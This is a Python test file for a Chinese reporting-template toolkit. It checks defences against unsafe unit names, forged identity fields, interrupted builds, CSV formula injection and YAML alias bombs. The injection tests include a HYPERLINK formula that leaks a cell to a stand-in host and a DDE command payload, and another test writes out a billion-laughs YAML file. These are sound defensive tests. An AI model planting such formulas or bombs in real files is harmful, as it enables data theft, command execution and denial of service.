"""Issue 12, the rest: unit names that make bad or clashing file names, a
template build killed half way, forged identification, the office's own
marked-up copies in the returns folder, formulas in the CSVs, and plan files
(metadata edits, YAML alias bombs). Every test runs on real files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import signal
import time
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest

from toolkit.cli import cli
from toolkit.errors import UnitsError
from toolkit.intake import read_returns
from toolkit.periods import parse_period
from toolkit.pipeline.validate import check_returns, validate_returns
from toolkit.simulate import fill_template
from toolkit.templates import build_templates
from toolkit.templates.layout import ID_SHEET, INSTRUCTIONS_SHEET
from toolkit.units import Unit, load_units

from .conftest import BUILTIN, EXAMPLE_UNITS
from .test_consolidate import values_for

PERIOD = parse_period("2026Q2")


def _unit(code, name):
    return Unit(code=code, name=name, kind="村", parent=None, contact=None)


def _codes(report, path):
    return [x.code for f in report.files if f.path == str(path) for x in f.findings]


def _file(report, path):
    return next(f for f in report.files if f.path == str(path))


# ---------------------------------------------------------------- 1. the units list


def test_units_whose_templates_would_share_a_file_name_are_refused_before_anything_is_written(runner, tmp_path):
    units = tmp_path / "units.csv"
    units.write_text("code,name\nX_12,A村\nX,12_A村\nds-v01,青坪村\nDS-V01,长田村\nV9,石龙村\nV10,石龙村\n", encoding="utf-8")
    out = tmp_path / "模板"
    result = runner.invoke(cli, ["templates", "build", "dingshan-2026", "--units", str(units), "--period", "2026Q2",
                                 "-o", str(out)])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "第3行" in result.output and "X_12_A村" in result.output  # X,12_A村 gives X_12_A村_2026Q2.xlsx too
    assert "第5行" in result.output and "ds-v01" in result.output  # DS-V01 and ds-v01 clash on Windows
    assert "第7行" in result.output and "石龙村" in result.output  # the same name twice
    assert not out.exists() or not any(out.iterdir())


@pytest.mark.parametrize("code,name,words", [
    ("con", "青坪村", "保留的设备名"),
    ("V1", "NUL", "保留的设备名"),
    ("COM1.x", "青坪村", "保留的设备名"),
    ("V1", "青坪\x01村", "U+0001"),
    ("V1", "\u202e村坪青", "U+202E"),
    (".V1", "青坪村", "以“.”开头"),
    ("V1", "青坪村<一组>", "< >"),
    ("V1|2", "青坪村", "|"),
    ("V1", "长" * 200, "超过 40 个字"),
])
def test_units_list_refuses_names_that_cannot_be_file_names(tmp_path, code, name, words):
    path = tmp_path / "units.csv"
    path.write_text(f"code,name\nV0,石龙村\n{code},{name}\n", encoding="utf-8")
    with pytest.raises(UnitsError) as caught:
        load_units(path)
    text = str(caught.value)
    assert "第3行" in text and words in text
    assert "\x01" not in text and "\u202e" not in text  # shown as codes, never obeyed by a terminal
    assert len(text) < 1000


def test_a_200_character_unit_name_stops_the_build_before_any_file(runner, tmp_path):
    units = tmp_path / "units.csv"
    lines = EXAMPLE_UNITS.read_text(encoding="utf-8").splitlines()
    lines.append("DS-LONG," + "丁山镇" * 67 + ",村")
    units.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "模板"
    result = runner.invoke(cli, ["templates", "build", "dingshan-2026", "--units", str(units), "--period", "2026Q2",
                                 "-o", str(out)])
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "超过 40 个字" in result.output and "磁盘" not in result.output
    assert not out.exists() or not any(out.iterdir())


def test_the_template_writer_never_writes_invalid_xml(tmp_path, dingshan_plan):
    from toolkit.templates import Stamper, skeletons

    [(_, _, skeleton)], _ = skeletons(dingshan_plan, [_unit("V1", "青坪村")], PERIOD)
    data = Stamper(skeleton).stamp("V\x011", "坏\x02村\x1b[31m")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(archive.read(name))  # raises on a character XML cannot hold
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook[INSTRUCTIONS_SHEET]["B5"].value == "坏村[31m"


# ---------------------------------------------------------------- 2. a build is one set


def _xlsx(folder):
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.suffix == ".xlsx"}


def test_a_later_build_removes_the_templates_of_the_earlier_one_it_replaces(tmp_path, dingshan_plan):
    from toolkit.plan import load_plan

    out = tmp_path / "模板"
    first = build_templates(dingshan_plan, [_unit("V1", "青坪村"), _unit("V2", "长田村")], PERIOD, out)
    assert sorted(_xlsx(out)) == sorted(t.path.name for t in first.templates)
    # the same plan: one unit renamed, one added; 长田村's template is still good and stays
    second = build_templates(dingshan_plan, [_unit("V1", "青坪村委会"), _unit("V3", "石龙村")], PERIOD, out)
    assert sorted(_xlsx(out)) == sorted(["V1_青坪村委会_2026Q2.xlsx", "V2_长田村_2026Q2.xlsx", "V3_石龙村_2026Q2.xlsx"])
    assert second.templates[0].path.name == "V1_青坪村委会_2026Q2.xlsx"
    # another plan version: nothing of the earlier one is left beside it
    changed = load_plan("dingshan-2026")
    changed.tables[0].rows[0].indicators[0].value = 7.0
    third = build_templates(changed, [_unit("V1", "青坪村委会")], PERIOD, out)
    assert sorted(third.removed) == ["V2_长田村_2026Q2.xlsx", "V3_石龙村_2026Q2.xlsx"]
    other_period = build_templates(changed, [_unit("V2", "长田村")], parse_period("2026Q3"), out)
    assert set(_xlsx(out)) == {t.path.name for t in (*third.templates, *other_period.templates)}
    assert [p.name for p in out.iterdir() if ".toolkit-tmp-" in p.name or p.name.endswith(".lock")] == []


@pytest.mark.slow
def test_a_build_killed_half_way_leaves_the_earlier_build_whole(tmp_path, dingshan_plan, example_units):
    """Killed with SIGKILL while stamping its fifth template, a build of a
    changed plan leaves the folder as the earlier build left it; the next
    build completes and leaves nothing of the killed one."""
    from toolkit.plan import load_plan
    from toolkit.templates import Stamper

    out = tmp_path / "模板"
    units = list(example_units)
    build_templates(dingshan_plan, units, PERIOD, out)
    before = _xlsx(out)
    changed = load_plan("dingshan-2026")
    changed.tables[0].rows[0].indicators[0].value = 7.0
    pid = os.fork()
    if pid == 0:  # the build, killed half way
        try:
            calls = []
            original = Stamper.stamp

            def stamp(self, code, name):
                calls.append(code)
                if len(calls) == 5:
                    os.kill(os.getpid(), signal.SIGKILL)
                return original(self, code, name)

            Stamper.stamp = stamp
            build_templates(changed, units, PERIOD, out)
        finally:
            os._exit(3)
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    assert _xlsx(out) == before  # not one template of the changed plan among them
    after = build_templates(changed, units, PERIOD, out)
    assert sorted(_xlsx(out)) == sorted(t.path.name for t in after.templates)
    assert all(_xlsx(out)[name] != before[name] for name in before)
    assert [p.name for p in out.iterdir() if "toolkit-tmp" in p.name or p.name.endswith(".lock")] == []


# ---------------------------------------------------------------- 3. identity


@pytest.fixture(scope="module")
def village_returns(tmp_path_factory, dingshan_templates):
    folder = tmp_path_factory.mktemp("villages")
    return {code: fill_template(dingshan_templates[code], folder / dingshan_templates[code].name, values_for(seed),
                                saved_at=dt.datetime(2026, 7, 3, 9, 0))
            for seed, code in enumerate(("DS-V01", "DS-V02"), start=1)}


def _set_hidden(workbook, key, value):
    sheet = workbook[ID_SHEET]
    for row in sheet.iter_rows(min_col=1, max_col=2):
        if row[0].value == key:
            row[1].value = value


def test_a_hidden_unit_code_edited_to_another_units_is_an_error_naming_both(tmp_path, dingshan_plan, example_units,
                                                                           village_returns):
    genuine = village_returns["DS-V02"]
    forged = fill_template(village_returns["DS-V01"], tmp_path / "forged.xlsx", lambda s: None,
                           edit=lambda wb: _set_hidden(wb, "unit_code", "DS-V02"),
                           saved_at=dt.datetime(2026, 7, 4, 9, 0))  # later than DS-V02's genuine return
    report = validate_returns(dingshan_plan, [genuine, forged], units=list(example_units), period=PERIOD)
    assert _file(report, genuine).status == "used"
    mismatch = [x for x in _file(report, forged).findings if x.code == "identity-mismatch"]
    assert mismatch and "DS-V02" in mismatch[0].message and "DS-V01" in mismatch[0].message
    assert _file(report, forged).unit == "DS-V01" and _file(report, forged).status == "rejected"


def test_an_identification_edited_everywhere_fails_its_checksum(tmp_path, dingshan_plan, example_units, village_returns):
    def both(workbook):
        _set_hidden(workbook, "unit_code", "DS-V02")
        _set_hidden(workbook, "unit_name", "长田村")
        workbook[INSTRUCTIONS_SHEET]["B6"] = "DS-V02"
        workbook[INSTRUCTIONS_SHEET]["B5"] = "长田村"

    forged = fill_template(village_returns["DS-V01"], tmp_path / "forged.xlsx", lambda s: None, edit=both)
    report = validate_returns(dingshan_plan, [village_returns["DS-V02"], forged], units=list(example_units), period=PERIOD)
    assert "identity-checksum" in _codes(report, forged)
    assert _file(report, village_returns["DS-V02"]).status == "used"
    assert not report.notices


def test_without_the_secret_returns_are_read_and_the_run_says_so_once(tmp_path, monkeypatch, dingshan_plan,
                                                                      example_units, village_returns):
    """Templates built on another PC: no secret here, or another one. Every
    return is used as before; one notice says the checksums were not checked."""
    paths = list(village_returns.values())
    monkeypatch.setenv("TOOLKIT_SECRET_FILE", str(tmp_path / "none" / "secret.key"))
    report = check_returns(dingshan_plan, read_returns(paths, dingshan_plan, workers=0), units=list(example_units),
                           period=PERIOD)
    assert [f.status for f in report.files] == ["used", "used"] and not report.findings
    assert len(report.notices) == 1 and "未核验" in report.notices[0] and "2 份" in report.notices[0]
    assert "注意：" in report.to_text() and report.to_json()["notices"] == report.notices
    assert not (tmp_path / "none").exists()  # checking never creates a secret
    other = tmp_path / "other.key"
    other.write_text("ab" * 32 + "\n", encoding="ascii")
    monkeypatch.setenv("TOOLKIT_SECRET_FILE", str(other))
    report = check_returns(dingshan_plan, read_returns(paths, dingshan_plan, workers=0), units=list(example_units),
                           period=PERIOD)
    assert [f.status for f in report.files] == ["used", "used"] and "另一台电脑" in report.notices[0]


def test_the_checksum_depends_on_the_secret_and_templates_stay_deterministic(tmp_path, monkeypatch, dingshan_plan):
    units = [_unit("V1", "青坪村")]
    a = build_templates(dingshan_plan, units, PERIOD, tmp_path / "a").templates[0].path.read_bytes()
    b = build_templates(dingshan_plan, units, PERIOD, tmp_path / "b").templates[0].path.read_bytes()
    assert a == b
    monkeypatch.setenv("TOOLKIT_SECRET_FILE", str(tmp_path / "office2.key"))
    c = build_templates(dingshan_plan, units, PERIOD, tmp_path / "c").templates[0].path.read_bytes()
    assert c != a and (tmp_path / "office2.key").exists()


# ---------------------------------------------------------------- 4. the office's own copies


def test_an_unchanged_marked_copy_in_the_returns_folder_is_listed_and_not_used(tmp_path, dingshan_plan, example_units,
                                                                                dingshan_templates):
    import toolkit

    folder = tmp_path / "回收"
    late = values_for(1, {("core-2", "value"): "不知道"})
    original = fill_template(dingshan_templates["DS-V01"], folder / "DS-V01.xlsx", late,
                             saved_at=dt.datetime(2026, 7, 3, 9, 0))
    first = toolkit.validate(dingshan_plan, [folder], units=list(example_units), period="2026Q2", feedback=folder)
    [copy] = [p for p in first.written]
    assert copy.name == "DS-V01_退回修改.xlsx"
    second = toolkit.validate(dingshan_plan, [folder], units=list(example_units), period="2026Q2", feedback=folder)
    assert _file(second, original).status == "rejected"  # the unit's own return is still the one that counts
    assert _codes(second, copy) == ["office-copy"] and _file(second, copy).status == "unrecognised"
    assert second.files[[f.path for f in second.files].index(str(copy))].findings[0].severity == "warning"
    assert second.written == []  # its copy is there already: none is written over an input, none beside it
    assert "可用 0 个，有错误 1 个" in second.to_text()  # the unit's return; its office copy is no error
    assert sorted(p.name for p in folder.iterdir() if not p.name.startswith(".")) == ["DS-V01.xlsx", "DS-V01_退回修改.xlsx"]


def test_a_marked_copy_the_unit_corrected_is_its_new_version(tmp_path, dingshan_plan, example_units, dingshan_templates):
    import toolkit

    returns, back = tmp_path / "回收", tmp_path / "退回"
    wrong = fill_template(dingshan_templates["DS-V01"], returns / "DS-V01.xlsx",
                          values_for(1, {("core-2", "value"): "不知道"}), saved_at=dt.datetime(2026, 7, 3, 9, 0))
    [copy] = toolkit.validate(dingshan_plan, [returns], units=list(example_units), period="2026Q2",
                              feedback=back).written

    def fix(workbook):
        for row in workbook["核心绩效指标"].iter_rows():
            for cell in row:
                if cell.value == "不知道":
                    cell.value = 0

    corrected = fill_template(copy, returns / copy.name, lambda s: None, edit=fix)  # the unit saves it again
    report = validate_returns(dingshan_plan, [returns], units=list(example_units), period=PERIOD)
    assert _file(report, corrected).status == "used" and "office-copy" not in _codes(report, corrected)
    assert _file(report, wrong).status == "superseded"


# ---------------------------------------------------------------- 5. CSV injection


INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3", "\t=1", "\r=1"]


def test_the_csvs_beside_the_consolidated_workbook_carry_no_formulas(tmp_path, dingshan_plan, example_units,
                                                                     dingshan_templates):
    from toolkit.pipeline.consolidate import consolidate
    from toolkit.xlsx.leaders import tasks_csv, values_csv

    texts = iter(INJECTIONS * 50)

    def value_for(spot):
        if spot.field in ("progress", "reason"):
            return next(texts)
        return values_for(2)(spot)

    folder = tmp_path / "回收"
    for code in ("DS-V01", "DS-O02"):
        fill_template(dingshan_templates[code], folder / f"{code}.xlsx", value_for)
    result = consolidate(dingshan_plan, [folder], units=list(example_units), period=PERIOD)
    cells = []
    for pieces in (values_csv(result), tasks_csv(result)):  # CSV text in pieces, written as UTF-8
        data = "".join(pieces)
        assert data.startswith("\ufeff")
        cells += [cell for row in csv.reader(io.StringIO(data[1:], newline="")) for cell in row]
    found = [c for c in cells if c.lstrip("'") in INJECTIONS]
    assert {c.lstrip("'") for c in found} == set(INJECTIONS)
    assert all(c.startswith("'") for c in found)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert "0" in cells or "0.0" in cells  # numbers stay numbers


# ---------------------------------------------------------------- 6. plan files


def _plan_file(tmp_path, edit):
    text = (BUILTIN / "dingshan-2026.yaml").read_text(encoding="utf-8")
    path = tmp_path / "dingshan-2026.yaml"
    path.write_text(edit(text), encoding="utf-8")
    return path


def test_editing_only_the_issuer_keeps_every_return_valid(tmp_path, example_units, village_returns):
    from toolkit.plan import load_plan

    def issuer(text):
        lines = text.splitlines(keepends=True)
        index = next(i for i, line in enumerate(lines) if line.startswith("issuer:"))
        lines[index] = "issuer: 丁山镇安全生产委员会办公室（更正）\n"
        return "".join(lines).replace("\ntitle:", "\ntitle: 更正 ", 1)

    plan = load_plan(_plan_file(tmp_path, issuer))
    report = validate_returns(plan, list(village_returns.values()), units=list(example_units), period=PERIOD)
    assert [f.status for f in report.files] == ["used", "used"]
    assert "plan-changed" not in [x.code for x in report.findings]


def test_a_changed_target_names_the_table_that_changed(tmp_path, dingshan_plan, example_units, village_returns):
    from toolkit.plan import load_plan

    changed = load_plan("dingshan-2026")
    table = changed.tables[0]
    table.rows[0].indicators[0].value = 3.0
    report = validate_returns(changed, list(village_returns.values()), units=list(example_units), period=PERIOD)
    messages = [x.message for x in report.findings if x.code == "plan-changed"]
    assert len(messages) == 2 and all(f"“{table.title}”" in m for m in messages)
    assert all(other.title not in m for m in messages for other in changed.tables[1:])


def test_a_plan_file_with_nested_aliases_is_refused_at_once(runner, tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    lines.append("format: *i")
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert path.stat().st_size < 600
    start = time.monotonic()
    result = runner.invoke(cli, ["plan", "check", str(path)])
    assert time.monotonic() - start < 10
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert f"{path}:1" in result.output and "别名" in result.output
    assert len(result.output) < 1000


def test_values_echoed_in_plan_errors_are_cut(runner, tmp_path):
    path = _plan_file(tmp_path, lambda text: text.replace("format: toolkit-plan/1", "format: " + "x" * 100_000, 1))
    result = runner.invoke(cli, ["plan", "check", str(path)])
    assert result.exit_code != 0 and "xxxxxxxx" in result.output
    assert len(result.output) < 2000
